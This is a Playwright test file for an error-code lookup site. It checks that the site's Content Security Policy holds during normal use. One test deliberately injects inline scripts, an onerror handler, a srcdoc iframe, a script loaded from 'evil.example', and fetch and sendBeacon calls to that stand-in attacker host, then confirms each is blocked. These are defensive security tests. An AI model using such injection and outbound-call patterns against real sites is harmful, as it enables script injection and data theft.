/** Nothing that the site does breaks its own policy, and nothing that it does not do gets past it. */
import { expect, test } from 'playwright/test';
import { watchPolicy } from './policy.ts';

test('the page of a symbol does not break the policy', async ({ page }) => {
  const refusals = await watchPolicy(page);
  await page.goto('codes/kDTRpcNetworkError');
  await page.waitForURL(/codes\/0#ios$/);
  expect(refusals).toEqual([]);
});

test('no interaction breaks the policy', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const refusals = await watchPolicy(page);

  await page.goto('codes/7014#android&api=com.example.op');
  await page.locator('.page-actions summary').click();
  for (const name of [
    'Copy address',
    'Copy text for a ticket',
    'Copy link: Check that it is fixed',
  ])
    await page.getByRole('button', { name, exact: true }).click();
  await page.getByRole('combobox', { name: 'Theme' }).selectOption('dark');
  await page.keyboard.press('/');
  await page.getByRole('combobox', { name: 'Code, name' }).fill('clock difference');
  await expect(page.getByRole('option').first()).toBeVisible();
  await page.getByRole('button', { name: 'Search all text' }).click();
  await expect(page.getByRole('status').first()).toContainText('full text');
  await page.keyboard.press('Escape');
  // Long enough for the browser to fetch the page ahead.
  await page.getByRole('main').getByRole('link', { name: 'Gateway code' }).hover();
  await page.waitForTimeout(500);

  await page.goto('decode');
  await page.getByLabel('Number, name, error').fill('Result-Status:7014\nend');
  await expect(page.getByRole('region', { name: 'Findings' })).toContainText('7014');
  await page.getByRole('button', { name: 'Redact for sharing' }).click();
  await page.getByRole('button', { name: 'Copy redacted text' }).click();
  await page.getByLabel('Open a log file').setInputFiles({
    name: 'app.log',
    mimeType: 'text/plain',
    buffer: Buffer.from('Result-Status:7001\nend'),
  });
  await expect(page.getByRole('region', { name: 'Findings' })).toContainText('7001');

  await page.goto('codes');
  await page.getByLabel('Family').selectOption('ios');
  await page.getByRole('button', { name: 'Reset' }).click();

  await page.setViewportSize({ width: 360, height: 640 });
  await page.goto('codes/0');
  await page.getByRole('button', { name: 'Menu' }).click();
  await expect(page.getByRole('link', { name: 'Glossary' })).toBeVisible();
  expect(refusals).toEqual([]);
});

test('a script that is put into a page does not run, and nothing is sent elsewhere', async ({
  page,
}) => {
  const refusals = await watchPolicy(page);
  await page.goto('codes/7014');
  const ran = await page.evaluate(async () => {
    const marks = globalThis as unknown as { ran?: string[] };
    marks.ran = [];
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran.push("inline")';
    const image = document.createElement('img');
    image.src = 'data:,';
    image.setAttribute('onerror', 'globalThis.ran.push("attribute")');
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.ran.push("frame")</script>';
    document.body.append(script, image, foreign, frame);
    // Not `eval`: what Playwright itself runs may do that.
    setTimeout('globalThis.ran.push("text")');
    await fetch('https://evil.example/').catch(() => undefined);
    navigator.sendBeacon('https://evil.example/', 'x');
    await new Promise((done) => setTimeout(done, 500));
    return marks.ran;
  });
  expect(ran).toEqual([]);
  const refused = refusals.map((refusal) => refusal.split(' ')[1]);
  for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src'])
    expect(refused, refusals.join('\n')).toContain(directive);
});

test('the page of a link is fetched ahead when the pointer rests on it', async ({ page }) => {
  await page.goto('codes/7014');
  const ahead = page.waitForRequest(
    (request) => request.headers()['sec-purpose']?.startsWith('prefetch') === true,
  );
  await page.getByRole('main').getByRole('link', { name: 'Gateway code' }).hover();
  expect(new URL((await ahead).url()).pathname).toBe('/codes/gateway');
});
